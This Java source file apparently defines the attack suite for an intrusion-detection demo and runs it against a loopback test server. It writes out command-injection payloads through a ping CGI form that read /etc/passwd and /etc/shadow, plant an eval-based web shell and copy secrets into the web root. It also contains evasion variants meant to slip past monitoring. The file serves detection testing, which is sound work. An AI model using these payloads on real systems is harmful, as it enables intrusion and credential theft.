// SPDX-License-Identifier: Apache-2.0
package tagwatch.demo;

import java.io.IOException;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

/**
 * The attack suite. All but the first two and the overflow use only programs and calls that benign
 * traffic uses, too; everything stays on loopback, and nothing is read that is kept.
 */
final class Attacks {
  private static final int PATIENCE_MS = 8_000;
  private static final int LONG_PATIENCE_MS = 90_000;
  private static final Path SECRET = Path.of("/etc/passwd");

  private final ProtectedServer device;
  private final Attacker attacker;
  private final Gateway gateway;

  Attacks(ProtectedServer device, Attacker attacker, Gateway gateway) {
    this.device = device;
    this.attacker = attacker;
    this.gateway = gateway;
  }

  /** All names, in their order. */
  static final List<String> NAMES =
      List.of(
          "netcat-shell",
          "injected-cat",
          "web-shell",
          "shell-builtins",
          "exfiltrate",
          "short-children",
          "miner",
          "slow-mimicry",
          "padding",
          "overflow",
          "flood");

  List<Attack> all() {
    return List.of(
        attack(
            0,
            "reverse shell over netcat, five commands",
            Loot.COMMANDS,
            run -> attacker.attack(device.port()).completed()),
        injection(1, "cat /etc/passwd in the ping form", "cat /etc/passwd", "root:x:0"),
        attack(2, "uploads a web shell, then uses it three times", 4, this::webShell),
        injection(
            3,
            "reads files with the shell's own commands, no new process",
            "read a < /etc/passwd; echo \"$a\"; cd /etc; echo *;"
                + " while read l; do echo \"$l\"; done < /etc/shadow",
            "root:x:0",
            "hostname",
            "daemon:*"),
        attack(4, "copies a secret into the web root with cat, fetches it", 2, this::exfiltrate),
        injection(
            5,
            "trained programs only, each child ends before a window is full",
            "date; cat /etc/passwd; free; cat /etc/group; df /; cat /etc/hosts; uptime",
            "root:x:0",
            "Mem:",
            "sudo:x",
            "localhost"),
        injection(
            6,
            "computes in the shell, hardly a call",
            "i=0; while [ $i -lt 300000 ]; do i=$((i+1)); done; echo MINED-$i",
            "MINED-300000"),
        new Attack(
            NAMES.get(7),
            "reads one secret in 10 s, pings and statistics in between",
            LiveDemo.DEVICE,
            3,
            true,
            this::mimicry),
        injection(
            8,
            "sixty harmless writes around each stolen line",
            "while read l; do k=0; while [ $k -lt 60 ]; do printf '<dt>%s</dt>\\n' $k; k=$((k+1));"
                + " done; echo \"$l\"; done < /etc/passwd",
            "daemon:x:1"),
        new Attack(
            NAMES.get(9),
            "overflow in the C server: mprotect, open, read, write, no exec",
            Gateway.TAG,
            1,
            false,
            run -> overflow()),
        injection(
            10,
            "cat /etc/passwd while two loops flood the ring",
            "cat /dev/zero > /dev/null & p=$!; cat /dev/zero > /dev/null & q=$!; cat /etc/passwd;"
                + " kill $p $q",
            "root:x:0"));
  }

  private Attack attack(int index, String what, int goals, Attack.Deed deed) {
    return new Attack(NAMES.get(index), what, LiveDemo.DEVICE, goals, false, deed);
  }

  /** Commands through the hole of {@code ping.cgi}; each proof in the answer is a goal reached. */
  private Attack injection(int index, String what, String script, String... proofs) {
    return attack(index, what, proofs.length, run -> proven(inject(script, PATIENCE_MS), proofs));
  }

  private static int proven(String text, String... proofs) {
    return (int) Stream.of(proofs).filter(text::contains).count();
  }

  private String inject(String script, int timeoutMs) throws IOException {
    String host = "127.0.0.1;" + script;
    return Received.get(
        device.port(),
        "/cgi-bin/ping.cgi?host=" + URLEncoder.encode(host, StandardCharsets.UTF_8),
        timeoutMs);
  }

  private int webShell(int run) throws IOException {
    Path shell = device.site().root().resolve("cgi-bin/x" + run + ".cgi");
    String script =
        "printf '#!%1$s/sh\\nprintf \"Content-Type: text/plain\\\\r\\\\n\\\\r\\\\n\"\\n"
            + "eval \"$(httpd -d \"$QUERY_STRING\")\" 2>&1\\n' > %2$s; chmod 755 %2$s";
    try {
      inject(script.formatted(device.busybox().bin(), shell), PATIENCE_MS);
      int done = Files.isExecutable(shell) ? 1 : 0;
      String target = "/cgi-bin/" + shell.getFileName() + "?";
      done += proven(Received.get(device.port(), target + "id", PATIENCE_MS), "uid=");
      done +=
          proven(
              Received.get(device.port(), target + "cat%20/etc/passwd", PATIENCE_MS), "root:x:0");
      done +=
          proven(Received.get(device.port(), target + "ls%20-l%20/root", PATIENCE_MS), "total ");
      return done;
    } finally {
      Files.deleteIfExists(shell);
    }
  }

  private int exfiltrate(int run) throws IOException {
    Path copy = device.site().root().resolve("docs/z" + run + ".html");
    try {
      inject("grep -l -i -F -e root /etc/passwd; cat /etc/shadow > " + copy, PATIENCE_MS);
      boolean taken = Files.exists(copy) && Files.readString(copy).contains("daemon:");
      String fetched = Received.get(device.port(), "/docs/z" + run + ".html", PATIENCE_MS);
      return (taken ? 1 : 0) + proven(fetched, "daemon:");
    } finally {
      Files.deleteIfExists(copy);
    }
  }

  private int mimicry(int run) throws IOException {
    Path loot = device.site().data().resolve("slow-" + run + ".txt");
    String script =
        "for f in /etc/passwd /etc/group /etc/shadow; do read l < $f; echo \"$l\" >> "
            + loot
            + "; ping -c 10 127.0.0.1 > /dev/null; cat /proc/loadavg > /dev/null; done";
    try {
      inject(script, LONG_PATIENCE_MS);
      return Files.exists(loot) ? Math.min(3, Files.readAllLines(loot).size()) : 0;
    } finally {
      Files.deleteIfExists(loot);
    }
  }

  private int overflow() throws IOException, DemoException {
    gateway.start();
    return proven(gateway.exploit(SECRET), "root:x:0");
  }
}
